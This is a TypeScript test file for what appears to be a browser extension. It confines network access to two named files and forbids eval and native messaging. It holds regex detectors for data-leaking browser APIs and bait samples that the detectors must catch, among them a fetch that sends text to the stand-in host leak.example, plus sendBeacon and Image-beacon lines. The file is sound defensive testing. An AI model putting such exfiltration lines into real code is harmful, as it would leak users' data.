import { expect, test } from 'vitest';
import { builtScripts } from './built';
import { codeUnder, filesWith, read, type Source, withoutComments } from './sources';

const OWN_FILES = 'src/background/reader-files.ts';
/** The only files that may reach a network: one that asks for packs, and one that reads files of our own package. */
const MAY_REACH: readonly string[] = ['src/background/ask-for-pack.ts', OWN_FILES];
/** Built, that is in the background alone, its Worker included: no script of a page of ours, and none that runs in others' pages, has a way out. */
const MAY_REACH_WHEN_BUILT: readonly string[] = ['background.js', 'reader-worker.js'];

const REACHES =
  /\bfetch\b|\bXMLHttpRequest\b|\bsendBeacon\b|\bWebSocket(Stream)?\b|\bEventSource\b|\bWebTransport\b|\bRTCPeerConnection\b|\bimportScripts\b|\bnew Image\b|\bnew (Shared)?Worker\b|\bserviceWorker\b/;
const REACHES_EACH = new RegExp(`${REACHES.source}\\(`, 'g');
/** Ways out of the browser that are no request, and ways to run what came in as text. */
const LEAVES =
  /\b(sendNativeMessage|connectNative|setUninstallURL|downloads|onMessageExternal|onConnectExternal|new Function|eval)\b/;
/** In a bundle shown words stand beside code, so a plain word does not count: a call, a member or a name in quotes does. */
const REACHES_IN_BUNDLE =
  /(?<![\w$])fetch\s*\(|\.fetch\b|["'`]fetch["'`]|\bXMLHttpRequest\b|\bsendBeacon\b|\bWebSocket(Stream)?\b|\bEventSource\b|\bWebTransport\b|\bRTCPeerConnection\b|\bimportScripts\b|\bnew Image\b|\bnew (Shared)?Worker\b|(?<![\w$])eval\s*\(|\bnew Function\b/;

test('code that can reach a network is exactly the files named for it', () => {
  expect(filesWith(codeUnder('src'), REACHES)).toEqual(MAY_REACH);
  expect(MAY_REACH.length).toBeLessThanOrEqual(2);
});

test('nothing leaves the browser by another door, and no text is run as code', () => {
  expect(filesWith(codeUnder('src'), LEAVES)).toEqual([]);
});

test.each(['chromium', 'firefox'] as const)('in the %s build the background alone can reach a network', (target) => {
  const scripts = builtScripts(target);
  expect(scripts.length).toBeGreaterThan(3);
  expect(filesWith(scripts, REACHES_IN_BUNDLE)).toEqual(MAY_REACH_WHEN_BUILT);
});

test('what is asked carries nobody’s mark, takes no detour, and is asked for in one place', () => {
  const { text } = read('src/background/ask-for-pack.ts');
  const options = /await fetch\(address, \{([\s\S]*?)\n {4}\}\)/.exec(text)?.[1] ?? '';
  for (const asked of [
    "method: 'GET'",
    "credentials: 'omit'",
    "referrerPolicy: 'no-referrer'",
    "redirect: 'error'",
    "cache: 'no-store'",
  ])
    expect(options).toContain(asked);
  expect(options).not.toMatch(/\b(?:body|integrity|keepalive|window)\b/);
  expect(text.match(REACHES_EACH)).toHaveLength(1);
});

/** Every way out in the file that reads our own: its paths stand in the file, and each is of our own address. */
const OWN_ASKS = [/fetch\(new URL\(file, location\.origin\)\)/, /new Worker\(new URL\(WORKER, location\.origin\)\)/];
const withoutOwnAsks = (text: string) => OWN_ASKS.reduce((left, ask) => left.replace(ask, ''), text);

test('files of the package are asked for by their names, at our own address alone', () => {
  const { text } = withoutComments(read(OWN_FILES));
  const paths = [...text.matchAll(/'([^']*\/[^']*)'/g)].map((match) => match[1]);
  expect(paths.filter((path) => !path?.startsWith('./'))).toEqual([
    '/reader/kernel.wasm',
    '/reader/vocabulary.txt',
    '/reader/weights.bin',
    '/reader-worker.js',
  ]);
  expect(filesWith([{ path: OWN_FILES, text: withoutOwnAsks(text) }], REACHES)).toEqual([]);
  expect(filesWith([{ path: OWN_FILES, text: withoutOwnAsks(`${text} fetch(address)`) }], REACHES)).toEqual([
    OWN_FILES,
  ]);
});

test.each([
  "fetch('https://leak.example/?' + text)",
  "globalThis['fetch'](address)",
  'const send = self.fetch;',
  'navigator.sendBeacon(address, text)',
  'new WebSocket(address)',
  'new Image().src = address',
  'new XMLHttpRequest',
])('these laws see %s', (text) => {
  const bait: Source[] = [{ path: 'bait.js', text }];
  expect(filesWith(bait, REACHES)).toEqual(['bait.js']);
  expect(filesWith(bait, REACHES_IN_BUNDLE)).toEqual(['bait.js']);
});

test.each(['runtime.connectNative("x")', 'eval(text)', 'new Function(text)', 'runtime.setUninstallURL(address)'])(
  'these laws see %s',
  (text) => expect(filesWith([{ path: 'bait.js', text }], LEAVES)).toEqual(['bait.js']),
);
